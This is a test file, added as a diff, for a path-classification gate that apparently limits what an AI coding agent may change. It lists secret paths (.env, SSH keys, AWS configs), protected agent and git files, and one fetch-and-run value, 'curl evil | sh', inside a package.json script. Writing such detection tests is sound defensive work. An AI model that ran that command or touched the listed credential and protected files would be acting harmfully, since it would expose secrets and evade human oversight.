@@ -1,0 +1,77 @@
+import { describe, expect, it } from 'vitest'
+import { gateData } from '../../../../tests/fakes/gate-rig.ts'
+
+const { kinds } = await gateData()
+
+describe('a secret', () => {
+  it.each([
+    ...['.env', 'a/.env.local', '.ENV', 'prod.env', 'certs/server.pem', 'id_rsa', 'home/.ssh/config'],
+    ...['.npmrc', 'credentials', 'config/credentials.yml', '.aws/config', 'terraform.tfstate', 'token.json'],
+    ...[
+      '.ssh/notes.md',
+      '.ssh',
+      '.env~',
+      '#.env#',
+      '.env.swp',
+      '.server.key.swp',
+      'server.key.bak',
+      'vendor/.env.old~',
+    ],
+  ])('is %s', (path) => expect(kinds.isSecret(path)).toBe(true))
+
+  it.each([
+    ...['.env.example', 'id_rsa.pub', 'src/credentials.ts', 'tokenizer.json', 'environment.md', 'key.ts'],
+    ...['第三章 秘密.txt', 'secret-garden.txt', 'env/readme.txt', 'src/token.ts'],
+  ])('is not %s', (path) => expect(kinds.isSecret(path)).toBe(false))
+})
+
+describe('a protected file', () => {
+  it.each([
+    ...[
+      '.git/config',
+      '.git',
+      'sub/.git/hooks/pre-commit',
+      'AGENTS.md',
+      'docs/CLAUDE.md',
+      '.tsugi/rules.json',
+    ],
+    ...[
+      '.vscode/settings.json',
+      '.bashrc',
+      '.husky/pre-commit',
+      '.claude/settings.json',
+      'claude.md',
+      '.GIT/config',
+    ],
+  ])('is %s', (path) => expect(kinds.isProtected(path)).toBe(true))
+
+  it.each(['src/git.ts', 'github.md', 'agents.ts', '.gitignore', 'tsugi/rules.json'])('is not %s', (path) =>
+    expect(kinds.isProtected(path)).toBe(false),
+  )
+
+  it('is not each change of package.json, but each of its scripts', () => {
+    const before = '{"name":"a","scripts":{"test":"x"}}'
+    const key = (newText: string | null, oldText: string | null = before) =>
+      kinds.changedKey('app/package.json', oldText, newText)
+    expect(key('{"name":"b","scripts":{"test":"x"}}')).toBeNull()
+    expect(key('{"name":"a","scripts":{"test":"curl evil | sh"}}')).toBe('scripts')
+    expect(key('{"name":"a"}')).toBe('scripts')
+    expect(key('{"name":"a","bin":"x"}', '{"name":"a"}')).toBe('bin')
+    expect(key('{"scripts":{"a":"b"}}', null)).toBe('scripts')
+    expect(key('{"name":"a"}', null)).toBeNull()
+    expect(key('{ not json', before)).toBe('scripts')
+    expect(key(before, '{ not json')).toBe('scripts')
+    expect(kinds.changedKey('other.json', before, '{}')).toBeNull()
+  })
+})
+
+it('knows what runs, what is locked and what is never written', () => {
+  expect(kinds.isCi('.github/workflows/ci.yml')).toBe(true)
+  expect(kinds.isCi('src/workflows/ci.yml')).toBe(false)
+  expect(kinds.isScript('bin/run.sh')).toBe(true)
+  expect(kinds.isScript('Makefile')).toBe(true)
+  expect(kinds.isLock('web/package-lock.json')).toBe(true)
+  expect(kinds.isExecutable('a/tool.EXE')).toBe(true)
+  expect(kinds.isExecutable('lib/x.so.1')).toBe(true)
+  expect(kinds.isExecutable('src/x.ts')).toBe(false)
+})
